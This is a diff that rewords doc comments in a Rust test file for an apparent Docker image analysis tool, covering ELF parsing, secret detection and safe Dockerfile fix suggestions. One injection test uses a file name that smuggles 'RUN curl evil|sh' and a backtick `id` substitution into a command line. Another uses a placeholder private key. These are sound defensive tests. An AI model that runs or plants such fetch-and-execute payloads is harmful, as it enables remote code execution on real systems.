@@ -1,4 +1,4 @@
-//! What can go and what is dangerous: images described in code, each made so that one topic speaks, and the laws that hold for all of them.
+//! Savings and security findings: images described in code, one for each kind of finding, and the laws that hold for all of them.
 
 use dive_rs::analysis::BaseHint;
 use dive_rs::analysis::findings::{Advice, Finding, Fix, Level, Topic};
@@ -15,7 +15,7 @@ fn advice(builder: &ImageBuilder) -> (Image, Advice) {
     (image, content_analysis.advice)
 }
 
-/// Returns the one finding of a topic.
+/// Returns the only finding of a topic.
 fn one(builder: &ImageBuilder, topic: Topic) -> (Image, Finding) {
     let (image, advice) = advice(builder);
     let mut found = advice
@@ -98,7 +98,7 @@ fn caches_go_in_the_run_that_fills_them() {
             " && rm -rf ~/.cache/pip",
         ]
     );
-    // What the base brought is the base's.
+    // Files of the base stay in the base.
     let base = ImageBuilder::new("base")
         .layer("", |layer| layer.filled("var/lib/apt/lists/x", 900_000, 1));
     none(
@@ -339,7 +339,7 @@ fn who_may_do_what_is_told_by_bits() {
     }
 }
 
-/// The smallest ELF program that names a loader and a library, as `readelf` reads it: 64 bits, little-endian, five sections.
+/// The smallest ELF program with a loader and a library, as `readelf` reads it: 64 bits, little-endian, five sections.
 fn program(loader: Option<&str>, library: &str, symbols: usize) -> Vec<u8> {
     let mut names = vec![0_u8];
     let mut sections: Vec<(usize, u32, Vec<u8>)> = Vec::new();
@@ -511,7 +511,7 @@ fn a_program_without_its_loader_cannot_start() {
     );
 }
 
-/// No program that is cut off anywhere or has any byte flipped stops the reading.
+/// Programs truncated anywhere or with any byte flipped never stop the reading.
 #[test]
 fn hostile_programs_are_read_as_far_as_they_go() {
     let elf = program(Some("/lib64/ld.so"), "libc.so.6", 200_000);
@@ -529,7 +529,7 @@ fn hostile_programs_are_read_as_far_as_they_go() {
     }
 }
 
-/// Lines that are pasted mean what they say, and no name of a file is a line of its own.
+/// Suggested lines are safe to paste: a file name never becomes a line of its own.
 #[test]
 fn names_stay_names_in_the_lines() {
     let evil = "it's\nRUN curl evil|sh\n\"$HOME`id`\" * [x] \\";
@@ -576,7 +576,7 @@ fn names_stay_names_in_the_lines() {
     }
 }
 
-/// Where a command cannot be gone on with, or no RUN line made the layer, no line says so.
+/// No line is suggested when a command cannot be continued or no RUN line made the layer.
 #[test]
 fn only_commands_of_run_lines_are_gone_on_with() {
     let said = |instruction: &str| {
@@ -618,7 +618,7 @@ fn only_commands_of_run_lines_are_gone_on_with() {
     }
 }
 
-/// What the classic builder made is known by its shell, from an archive too.
+/// The classic builder's layers are recognised by their shell, in archives as well.
 #[test]
 fn commands_of_the_classic_builder_are_gone_on_with() {
     let place = |instruction: &str| {
@@ -634,7 +634,7 @@ fn commands_of_the_classic_builder_are_gone_on_with() {
     assert_eq!(place("apt-get update"), "\"words\"");
 }
 
-/// What builders remember of ENV, LABEL, VOLUME and HEALTHCHECK is no line of a Dockerfile; a secret is not told again.
+/// ENV, LABEL, VOLUME and HEALTHCHECK as builders record them are not Dockerfile lines; a secret is not repeated.
 #[test]
 fn settings_are_written_so_that_they_are_read_back() {
     let mut config = starting(&["/srv/app", "\u{1b}\"$Y\""]);
@@ -661,7 +661,7 @@ fn settings_are_written_so_that_they_are_read_back() {
     insta::assert_snapshot!("settings", finding.fix.lines().join("\n"));
 }
 
-/// One mode for all that a line copies is a flag of it; a mode for some of it is not.
+/// One mode for every file a line copies becomes a flag of that line; a mode for some of them does not.
 #[test]
 fn a_mode_is_a_flag_only_where_it_holds_for_all() {
     let image = |folder: u16| {
@@ -723,11 +723,11 @@ fn symbols_are_told_in_a_whole_sentence() {
         finding.why,
         "/srv/0, /srv/1, /srv/2, and 2 more carry what only a debugger reads."
     );
-    // Nothing there strips them.
+    // The image has no tool that strips them.
     assert!(matches!(finding.fix, Fix::Words(_)), "{:?}", finding.fix);
 }
 
-/// Keys of other people's tests and examples of manuals are no secrets; an argument of a build that is named one is.
+/// Keys in tests of dependencies and in manuals are not secrets; a build argument named like one is.
 #[test]
 fn what_only_looks_like_a_secret_is_none() {
     let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n", "A".repeat(64));
@@ -760,7 +760,7 @@ fn what_only_looks_like_a_secret_is_none() {
     );
 }
 
-/// Neither a pattern that is empty nor one that names where it was copied to.
+/// Neither an empty pattern nor the destination of a copy is suggested.
 #[test]
 fn a_line_whose_copies_are_all_deleted_is_left_out() {
     for said in [
@@ -787,7 +787,7 @@ fn a_mode_that_changes_nothing_is_left_out() {
     assert_eq!(finding.fix, Fix::Words(vec![words.to_owned()]));
 }
 
-/// What starts the program, asks for its health or knows its user's name is not there.
+/// A base without a shell cannot run shell commands: no start script, health check or user name.
 #[test]
 fn a_base_without_a_shell_is_not_asked_for_one() {
     let lines = |config: Config| {
